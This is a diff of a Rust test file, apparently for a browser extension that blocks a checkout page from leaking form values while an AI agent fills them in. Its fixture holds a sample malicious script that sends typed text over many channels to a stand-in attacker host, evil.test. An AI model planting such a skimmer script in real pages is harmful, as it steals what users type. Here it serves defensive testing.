@@ -1,11 +1,10 @@
 //! The egress of a page with filled values.
 
-use std::thread;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
-use crate::stage::{FORM, PATIENCE, REQUEST, Stage};
+use crate::stage::{FORM, REQUEST, Stage, until_unchanged, wait_for_absence, wait_until};
 
-/// Sends typed text to the attacker over every channel of a script, and reports when it has tried them all.
+/// A script that sends typed text to the attacker over every channel, and marks the page when it has tried them all.
 const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe>
   <iframe id="drawn" src="/drawn.svg"></iframe><iframe id="late"></iframe><a id="a"></a><script>
   const to = 'https://evil.test:PORT/';
@@ -63,7 +62,10 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
     for (const way of Object.values(ways)) { try { Promise.resolve(way(d)).catch(() => {}); } catch {} }
     setTimeout(() => { document.body.dataset.sent = ''; }, 700);
   };
-  addEventListener('load', () => setTimeout(() => { document.getElementById('late').src = to + 'slow'; }, 50));
+  addEventListener('load', () => setTimeout(() => {
+    const late = document.getElementById('late');
+    late.onload = () => { late.dataset.loaded = ''; };
+    late.src = to + 'slow'; }, 50));
   let timer;
   addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(send, 50); });
   </script><iframe name="f"></iframe>"#;
@@ -88,7 +90,7 @@ const FRAME: &str =
     "<!doctype html><script>addEventListener('message', (e) => { new Image().src = e.data; });</script>";
 
 #[test]
-fn a_page_with_values_sends_them_nowhere_else_until_the_task_is_over() {
+fn a_page_with_values_sends_them_nowhere_else_until_the_task_ends() {
     let mut stage = Stage::new(17);
     stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
     stage.site.put("bank.test/frame", FRAME);
@@ -119,29 +121,25 @@ fn a_page_with_values_sends_them_nowhere_else_until_the_task_is_over() {
     // From here on the attacker's own document loads while the form is filled.
     stage.site.hold("evil.test/slow");
     stage.browser().open(&url);
-    let began = Instant::now();
-    while stage.site.sent_to("evil.test").matches("evil.test /slow").count() < 2 {
-        assert!(
-            began.elapsed() < PATIENCE,
-            "its document was not asked for: {}",
-            stage.site.sent_to("evil.test")
-        );
-        thread::sleep(Duration::from_millis(100));
-    }
-    let before = quiet(&stage);
+    wait_until(|| {
+        let sent = stage.site.sent_to("evil.test");
+        let is_requested = sent.matches("evil.test /slow").count() >= 2;
+        is_requested.then_some(()).ok_or_else(|| format!("the attacker's document was not requested: {sent}"))
+    });
+    let before = until_quiet(&stage);
     stage.task();
     stage.agent_until(None, "Deliver to");
     let reply = stage.agent(Some(REQUEST));
     assert!(reply.contains("GRANT.address"), "{reply}");
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(stage.browser().values()["street"], stage.value("street"));
-    assert_eq!(stage.site.sent_to("evil.test"), before, "after the fill nothing goes there");
+    assert_eq!(stage.site.sent_to("evil.test"), before, "the page sent something after the fill");
 
-    stage.site.let_go("evil.test/slow");
-    thread::sleep(Duration::from_secs(1));
+    stage.site.release("evil.test/slow");
+    wait_for(&mut stage, "'loaded' in document.getElementById('late').dataset");
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    assert_eq!(quiet(&stage), before, "a document that came later sends nothing");
+    assert_eq!(until_quiet(&stage), before, "a document that loaded after the fill sent something");
 
     // Neither a navigation of the tab nor another tab of the same site sends, with the worker stopped meanwhile or not.
     stage.browser().stop_worker();
@@ -150,28 +148,28 @@ fn a_page_with_values_sends_them_nowhere_else_until_the_task_is_over() {
         stage.site.url("evil.test/leave")
     );
     stage.browser().evaluate(&leave);
-    thread::sleep(Duration::from_millis(700));
+    wait_for_absence(Duration::from_millis(700));
     stage.browser().tab(&url);
-    // The policy of a tab or page is known a moment after the page has loaded.
-    narrow_now(&mut stage);
+    // The extension restricts a tab and its page a moment after the page has loaded.
+    until_restricted(&mut stage);
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
     stage.browser().evaluate(TAKES);
-    assert_eq!(quiet(&stage), before, "nor by leaving, nor from another tab");
+    assert_eq!(until_quiet(&stage), before, "a navigation or another tab sent something");
 
-    // Another site in another tab is unaffected, and the shop is restricted when the person returns.
+    // Another site in another tab is unaffected, and the shop is restricted when the user returns.
     let bank = stage.site.url("bank.test/");
     stage.browser().tab(&bank);
     // The extension does not restrict another site's page.
     arrive(&stage, "evil.test", &["logo"]);
-    let before = quiet(&stage);
+    let before = until_quiet(&stage);
     stage.browser().open(&url);
-    narrow_now(&mut stage);
+    until_restricted(&mut stage);
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    assert_eq!(quiet(&stage), before, "the shop's page of later");
+    assert_eq!(until_quiet(&stage), before, "the shop's page sent something after it was opened again");
     stage.browser().open(&searched);
-    assert_eq!(quiet(&stage), before, "a page that the browser fetches a description for");
+    assert_eq!(until_quiet(&stage), before, "the browser fetched the OpenSearch description");
     stage.browser().open(&url);
     stage.no_value_got_out();
 
@@ -180,14 +178,8 @@ fn a_page_with_values_sends_them_nowhere_else_until_the_task_is_over() {
     arrive(&stage, "shop.test", &["mine?42"]);
 
     stage.end_task();
-    let began = Instant::now();
-    while stage.site.sent_to("evil.test") == before {
-        assert!(began.elapsed() < PATIENCE, "the task is over, and the way still narrow");
-        // The policy of a document disappears with it.
-        stage.browser().open(&url);
-        stage.browser().evaluate("void ways.fetch('after').catch(() => {})");
-        thread::sleep(Duration::from_millis(300));
-    }
+    // The policy of a document disappears with it, so each try opens the page again.
+    until_unrestricted(&mut stage, &url, "void ways.fetch('after').catch(() => {})", &before);
 }
 
 #[test]
@@ -209,25 +201,19 @@ fn a_restarted_browser_keeps_the_pages_of_the_task_restricted() {
     // The browser has forgotten its rules, and the form may be restored with its contents.
     stage.browse();
     stage.browser().open(&url);
-    narrow_now(&mut stage);
-    let before = quiet(&stage);
+    until_restricted(&mut stage);
+    let before = until_quiet(&stage);
     // For these the active page is enough: its frames get their policies a moment later.
     stage.browser().evaluate(
         "for (const name of ['fetch', 'beacon', 'image', 'style', 'script', 'frame', 'socket', 'worker', 'payment', 'form'])
             try { Promise.resolve(ways[name]('again')).catch(() => 0); } catch {}",
     );
-    assert_eq!(quiet(&stage), before, "what the browser has forgotten is narrow again");
+    assert_eq!(until_quiet(&stage), before, "the restarted browser does not restrict the page");
 
     // A new task starts while the worker is stopped: the first one's pages are unrestricted again.
     stage.browser().stop_worker();
     stage.task();
-    let began = Instant::now();
-    while stage.site.sent_to("evil.test") == before {
-        assert!(began.elapsed() < PATIENCE, "the task is over, and the way still narrow");
-        stage.browser().open(&url);
-        stage.browser().evaluate("void ways.image('after')");
-        thread::sleep(Duration::from_millis(300));
-    }
+    until_unrestricted(&mut stage, &url, "void ways.image('after')", &before);
     stage.no_value_got_out();
 }
 
@@ -272,40 +258,41 @@ const WAYS: [&str; 38] = [
     "form",
 ];
 
+/// Waits until this script of the active page returns true.
 pub fn wait_for(stage: &mut Stage, condition: &str) {
-    let began = Instant::now();
-    while stage.browser().evaluate(condition) != true {
-        assert!(began.elapsed() < PATIENCE, "{condition}");
-        thread::sleep(Duration::from_millis(100));
-    }
+    wait_until(
+        || if stage.browser().evaluate(condition) == true { Ok(()) } else { Err(condition.to_owned()) },
+    );
 }
 
-/// Waits until a host got a request that begins so.
+/// Opens the page and sends from it until something arrives at the attacker's host.
+fn until_unrestricted(stage: &mut Stage, url: &str, send: &str, before: &str) {
+    wait_until(|| {
+        stage.browser().open(url);
+        stage.browser().evaluate(send);
+        let has_arrived = stage.site.sent_to("evil.test") != before;
+        has_arrived
+            .then_some(())
+            .ok_or_else(|| "the task has ended and its pages are still restricted".to_owned())
+    });
+}
+
+/// Waits until a host got a request to each of these paths, given by their beginnings.
 pub fn arrive(stage: &Stage, host: &str, all: &[&str]) {
-    let began = Instant::now();
-    while let Some(missing) =
-        all.iter().find(|one| !stage.site.sent_to(host).contains(&format!("{host} /{one}")))
-    {
-        assert!(began.elapsed() < PATIENCE, "{missing} never came: {}", stage.site.sent_to(host));
-        thread::sleep(Duration::from_millis(100));
-    }
+    wait_until(|| {
+        let sent = stage.site.sent_to(host);
+        let missing = all.iter().find(|one| !sent.contains(&format!("{host} /{one}")));
+        missing.map_or(Ok(()), |missing| Err(format!("{missing} did not arrive: {sent}")))
+    });
 }
 
-/// The requests at the attacker's host, once no more have arrived for a while.
-pub fn quiet(stage: &Stage) -> String {
-    let mut sent = stage.site.sent_to("evil.test");
-    loop {
-        thread::sleep(Duration::from_secs(2));
-        let now = stage.site.sent_to("evil.test");
-        if now == sent {
-            return sent;
-        }
-        sent = now;
-    }
+/// The requests at the attacker's host, once no more have arrived for two seconds.
+pub fn until_quiet(stage: &Stage) -> String {
+    until_unchanged(|| stage.site.sent_to("evil.test"))
 }
 
-/// Waits until the active page has its policy; the rule for its tab is set right after it.
-fn narrow_now(stage: &mut Stage) {
+/// Waits until the active page has its content security policy and its tab is in the extension's rule for tabs.
+fn until_restricted(stage: &mut Stage) {
     wait_for(
         stage,
         "(() => {
@@ -317,5 +304,8 @@ fn narrow_now(stage: &mut Stage) {
             return window.kept.length > 0;
         })()",
     );
-    thread::sleep(Duration::from_secs(1));
+    wait_until(|| {
+        let is_restricted = stage.browser().at_question("isTabRestricted", &serde_json::json!({})) == true;
+        is_restricted.then_some(()).ok_or_else(|| "the tab is in no rule".to_owned())
+    });
 }
